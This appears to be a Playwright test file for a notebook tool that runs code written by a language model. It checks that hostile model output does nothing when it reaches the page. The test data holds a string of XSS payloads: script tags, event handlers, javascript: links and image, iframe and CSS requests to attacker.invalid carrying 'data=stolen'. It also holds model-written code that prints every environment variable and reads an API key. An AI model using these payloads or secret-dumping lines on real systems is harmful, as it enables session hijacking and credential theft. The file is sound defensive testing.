"""What a model or its code says is hostile: none of it may act in the page, fetch from elsewhere or tell a secret."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.notebook_page import NotebookPage
from tests.browser.scripted_story import (
    KEY,
    PASSWORD,
    RUN,
    RUN_CELL,
    button,
    environment,
    expect_waiting,
    prepare,
)

ATTACK = """Hello <script>window.attacked = 'script'</script>
<img src=x onerror="window.attacked='onerror'">
<svg onload="window.attacked='svg'"><script>window.attacked=1</script></svg>

![pixel](http://attacker.invalid/pixel.png?data=stolen) ![data](data:text/html,<script>window.attacked=2</script>)

[click](javascript:window.attacked='link') [enc](&#106;avascript:window.attacked=3) <a href="javascript:alert(1)">a</a>

<iframe src="http://attacker.invalid/frame"></iframe> <style>body{background:url(http://attacker.invalid/css)}</style>
<form action="http://attacker.invalid"><input autofocus onfocus="window.attacked='focus'"></form>

<details open ontoggle="window.attacked='toggle'">x</details> <math><mtext></form><form><mglyph><style></math>
the end of the attack
"""
ATTACKING_CODE = f"""```python
# {ATTACK.splitlines()[0]}
from IPython.display import HTML, Javascript, display
display(HTML({ATTACK!r}))
display(Javascript("window.attacked = 'javascript'"))
print({ATTACK!r})
import os; print(dict(os.environ))
sales.assign(region=os.environ["OPENAI_API_KEY"])
```
"""
FORBIDDEN = """() => [...document.querySelectorAll('.jp-OutputArea *')].flatMap(node => [
    ...(['SCRIPT', 'IFRAME', 'STYLE', 'FORM', 'OBJECT', 'EMBED', 'LINK', 'BASE'].includes(node.tagName)
        ? [node.outerHTML.slice(0, 80)] : []),
    ...[...node.attributes].filter(a => a.name.startsWith('on') || /^\\s*(javascript|vbscript):/i.test(a.value)
        || (['src', 'srcset', 'background', 'poster'].includes(a.name) && /^\\s*(https?:)?\\/\\//i.test(a.value)))
        .map(a => `${node.tagName} ${a.name}=${a.value}`),
])"""


@pytest.fixture
def lab_env(llmock_server: Any) -> dict[str, str]:
    return environment(llmock_server)


def requested(page: Page) -> list[str]:
    """Every address that the page asks for from now on; only the server's own are allowed."""
    found: list[str] = []
    page.on("request", lambda request: found.append(request.url))
    return found


def check(notebook: NotebookPage, requests: list[str]) -> None:
    assert notebook.page.evaluate("() => window.attacked ?? null") is None
    assert notebook.page.evaluate(FORBIDDEN) == []
    local = (notebook.server.url, notebook.server.url.replace("http", "ws"), "data:image/", "blob:")
    assert [url for url in requests if not url.startswith(local)] == []


def test_nothing_hostile_reaches_the_page(notebook: NotebookPage, llmock: Any) -> None:
    llmock.reply(ATTACK + ATTACKING_CODE).reply(ATTACK).reply("APPROVED")
    prepare(notebook, RUN)
    requests = requested(notebook.page)
    notebook.run_cell(RUN_CELL, wait=False)
    cell = expect_waiting(notebook)
    check(notebook, requests)
    button(cell, "Run").click()
    notebook.wait_idle()
    expect(cell).to_contain_text("the end of the attack")
    for summary in cell.locator("summary").all():
        if summary.is_visible():
            summary.click()
    check(notebook, requests)
    saved = json.dumps(notebook.save())
    notebook.reload()
    expect(notebook.cell(RUN_CELL)).to_contain_text("the end of the attack")
    check(notebook, requests)
    for secret in (KEY, PASSWORD):
        assert secret not in saved
        assert secret not in str([request.body for request in llmock.requests])
    [journal] = notebook.server.root.glob(f".nbagents/{notebook.file.stem}/*.jsonl")
    assert KEY not in journal.read_text()
    assert PASSWORD not in journal.read_text()
    assert "[redacted OPENAI_API_KEY]" in journal.read_text()


def test_a_refused_key_is_not_told(notebook: NotebookPage, llmock: Any) -> None:
    llmock.fail(401, message=f"Incorrect API key provided: {KEY}")
    prepare(notebook, RUN)
    notebook.run_cell(RUN_CELL)
    text = notebook.cell_output_text(RUN_CELL)
    assert "the key was refused" in text
    assert KEY not in json.dumps(notebook.save())
    error = next(output for output in notebook.cell_outputs(RUN_CELL) if output["output_type"] == "error")
    assert len(error["traceback"]) == 1
